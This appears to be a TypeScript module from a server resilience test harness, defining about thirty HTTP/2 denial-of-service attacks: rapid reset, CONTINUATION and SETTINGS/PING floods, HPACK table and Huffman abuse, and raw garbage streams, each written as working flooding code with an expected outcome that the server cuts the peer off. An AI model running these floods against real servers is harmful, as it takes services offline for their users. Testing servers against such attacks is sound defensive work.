/** Attacks with frames of HTTP/2 that cost a server more than they cost their sender. */

import type { Attack, Field } from "./attack.ts";
import {
  ACK,
  END_STREAM,
  field,
  FRAME,
  frame,
  FRAME_BYTES,
  head,
  headers,
  huffman,
  indexed,
  integer,
  join,
  literal,
  message,
  noise,
  PREFACE,
  repeated,
  SETTING,
  settings,
  uint32,
  widen,
} from "./bytes.ts";
import { GET_GPIO } from "./messages.ts";
import type { Http2Peer, Peer, PeerOptions } from "./peer.ts";

/** Bytes that go out in one write. */
const WRITE_BYTES = 64 * 1024;
/** Streams that a server takes at once, or more. */
const STREAMS = 900;
/** Requests per write of clients that open streams. */
const REQUESTS = 100;
/** 'a' five bits at a time: eight of them make five bytes. */
const HUFFMAN_AS = Uint8Array.of(0x18, 0xc6, 0x31, 0x8c, 0x63);

/** How long a server may take to be tired of a header block that does not end. */
const HELD_SECONDS = 40;
const A = Uint8Array.of(65);
const CANCEL = uint32(8);
const PING = frame(FRAME.ping, 0, 0, new Uint8Array(8));
const PONG = frame(FRAME.ping, ACK, 0, new Uint8Array(8));
const SETTINGS_ACK = frame(FRAME.settings, ACK, 0);
const PRIORITY = frame(FRAME.priority, 0, 1, Uint8Array.of(0, 0, 0, 0, 16));

/** Frames that are written again and again, as many as go into one write. */
function many(part: Uint8Array): Uint8Array {
  return repeated(part, Math.max(1, Math.floor(WRITE_BYTES / part.length)));
}

/** Writes the same frames for ever. */
function flood(
  frames: Uint8Array,
  beginning: (play: Field, peer: Http2Peer) => Uint8Array = () => new Uint8Array(),
) {
  const bytes = many(frames);
  return async (play: Field, peer: Http2Peer) => {
    await peer.write(beginning(play, peer));
    await play.flood(peer, bytes);
  };
}

/** Makes new requests for ever: `request` gives the frames of one. */
function requests(request: (stream: number, block: Uint8Array) => Uint8Array, more?: Uint8Array) {
  return async (play: Field, peer: Http2Peer) => {
    const { secure, token } = play.target;
    const block = head(GET_GPIO, { secure, token, more });
    while (!play.over) {
      const frames = Array.from({ length: REQUESTS }, () => request(peer.stream(), block));
      if (!await peer.write(join(frames))) return;
    }
  };
}

/** A request whose message has not come. */
function opened(play: Field, peer: Http2Peer): Uint8Array {
  return headers(peer.stream(), head(GET_GPIO, { secure: play.target.secure }));
}

/** Requests without a message, with more fields. */
function whole(more: Uint8Array) {
  return requests((stream, block) => headers(stream, block, END_STREAM), more);
}

const CALL = message(join([field(1, "board1"), field(2, "20")]));

/** A whole request that is called off in the same breath. */
const rapidReset = requests((stream, block) =>
  join([headers(stream, block), frame(FRAME.reset, 0, stream, CANCEL)])
);

const answeredReset = requests((stream, block) =>
  join([
    headers(stream, block),
    frame(FRAME.data, END_STREAM, stream, CALL),
    frame(FRAME.reset, 0, stream, CANCEL),
  ])
);

/** Breaks the rules of a stream, so that the server resets it. */
const madeReset = requests((stream, block) =>
  join([headers(stream, block, END_STREAM), frame(FRAME.data, 0, stream, A)])
);

/** One SETTINGS frame after another, full of window sizes that move the windows of many streams. */
async function settingsEntries(play: Field, peer: Http2Peer): Promise<void> {
  await peer.write(join(Array.from({ length: STREAMS }, () => opened(play, peer))));
  const entries = Array.from(
    { length: Math.floor(FRAME_BYTES / 6) },
    (_, index) => [SETTING.window, 65_535 + index % 2] as const,
  );
  await play.flood(peer, settings(...entries));
}

/** A block in a HEADERS frame without END_HEADERS, and then pieces of `size`, for ever. */
function continuations(size: number) {
  return async (play: Field, peer: Http2Peer) => {
    await peer.settled;
    const stream = peer.stream();
    const block = head(GET_GPIO, { secure: play.target.secure });
    await peer.write(frame(FRAME.headers, 0, stream, block));
    const piece = frame(
      FRAME.continuation,
      0,
      stream,
      literal("x", "y".repeat(Math.max(0, size - 4))).subarray(0, size),
    );
    await play.flood(peer, many(piece));
  };
}

async function heldHeader(play: Field, peer: Http2Peer): Promise<void> {
  await peer.settled;
  const block = head(GET_GPIO, { secure: play.target.secure });
  await peer.write(frame(FRAME.headers, 0, peer.stream(), block));
  await Promise.race([peer.over, play.sleep(play.ms)]);
}

/** Entries of the table that are large, and then nothing but references to them: a byte each. */
async function references(play: Field, peer: Http2Peer): Promise<void> {
  const { secure } = play.target;
  await peer.write(headers(peer.stream(), head(GET_GPIO, { secure, more: indexed("x", "y".repeat(4_000)) })));
  await requests((stream, block) => headers(stream, block), repeated(integer(0x80, 7, 62), 150_000))(
    play,
    peer,
  );
}

function garbage(play: Field, peer: Peer): Promise<void> {
  return play.flood(peer, noise(WRITE_BYTES, play.seed));
}

/** A request that the server has answered with an error. */
function ended(play: Field, peer: Http2Peer): Uint8Array {
  const stream = peer.stream();
  const block = head("/none/none", { secure: play.target.secure });
  return headers(stream, block, END_STREAM);
}

interface Means {
  readonly fate?: Attack["fate"];
  readonly seconds?: number;
  /** Connections at once. */
  readonly width?: number;
  readonly peer?: PeerOptions;
}

/** An attack over HTTP/2 whose peer must lose its connection. */
function attack(
  name: string,
  what: string,
  run: (play: Field, peer: Http2Peer) => Promise<void>,
  { fate = "cut off", seconds, width = 1, peer }: Means = {},
): Attack {
  const play = (field: Field) => field.busy(width, () => field.http2(peer), (one) => run(field, one));
  return { name, what, victim: "open", fate, seconds, play };
}

const UNREAD: Means = { peer: { reads: false } };
/** Load that a server may tolerate as long as others do not notice. */
const BORNE: Means = { fate: "any" };

export const FLOODS: readonly Attack[] = [
  attack("rapid-reset", "requests, each reset at once", rapidReset),
  attack("rapid-reset-calls", "whole calls, each reset at once", answeredReset),
  attack("rapid-reset-crowd", "requests, each reset at once, on 8 connections", rapidReset, { width: 8 }),
  attack("made-reset", "requests that make the server reset them", madeReset),
  attack(
    "open-streams",
    "requests that never go on",
    requests((stream, block) => headers(stream, block)),
    BORNE,
  ),
  attack("settings-entries", "SETTINGS of 2,730 window sizes with 900 streams open", settingsEntries),
  attack("settings-flood", "empty SETTINGS", flood(settings())),
  attack("settings-flood-unread", "empty SETTINGS, the answers unread", flood(settings()), UNREAD),
  attack("settings-acks", "acknowledgements of SETTINGS that nobody sent", flood(SETTINGS_ACK), BORNE),
  attack("ping-flood", "PINGs", flood(PING)),
  attack("ping-flood-unread", "PINGs, the answers unread", flood(PING), UNREAD),
  attack("ping-acks", "answers to PINGs that nobody sent", flood(PONG), BORNE),
  attack("priority-flood", "PRIORITY frames", flood(PRIORITY), BORNE),
  attack("window-flood", "windows of a stream widened by 1", flood(widen(1, 1), opened), {
    ...BORNE,
    peer: { window: 65_535 },
  }),
  attack("empty-data", "empty DATA on an open stream", flood(frame(FRAME.data, 0, 1), opened)),
  attack("data-after-end", "DATA on a stream that is over", flood(frame(FRAME.data, 0, 1, A), ended), BORNE),
  attack(
    "reset-flood",
    "resets of a stream that is over",
    flood(frame(FRAME.reset, 0, 1, CANCEL), ended),
    BORNE,
  ),
  attack("unknown-frames", "frames of a type that nobody knows", flood(frame(FRAME.unknown, 0, 0)), BORNE),
  attack("continuations", "CONTINUATION frames of 1 byte without an end", continuations(1)),
  attack("continuations-empty", "empty CONTINUATION frames without an end", continuations(0)),
  attack("continuations-full", "large CONTINUATION frames without an end", continuations(FRAME_BYTES)),
  attack("header-held", "HEADERS without END_HEADERS, and then nothing", heldHeader, {
    seconds: HELD_SECONDS,
  }),
  attack(
    "huffman",
    "header blocks of 40 kB of Huffman code",
    whole(huffman("x", repeated(HUFFMAN_AS, 8_000))),
  ),
  attack(
    "huffman-too-large",
    "header blocks of 200 kB of Huffman code, more than is taken",
    whole(huffman("x", repeated(HUFFMAN_AS, 40_000))),
  ),
  attack("references", "header blocks of 150,000 references to an entry of 4 kB", references),
  attack(
    "table-churn",
    "header blocks of 40,000 new entries of the table",
    whole(repeated(indexed("a", "b"), 40_000)),
  ),
  attack(
    "headers-of-64-kb",
    "requests with 70 kB of header fields",
    whole(literal("x", "y".repeat(70_000))),
    BORNE,
  ),
  attack("garbage-frames", "bytes of chance after a good beginning", garbage),
  {
    name: "garbage",
    what: "bytes of chance, from the first on",
    victim: "open",
    fate: "cut off",
    play: (play) => play.busy(4, () => play.raw(), (peer) => garbage(play, peer)),
  },
  {
    name: "prefaces",
    what: "the beginning of HTTP/2 over and over",
    victim: "open",
    fate: "cut off",
    play: (play) => play.busy(4, () => play.raw(), (peer) => play.flood(peer, many(PREFACE))),
  },
];
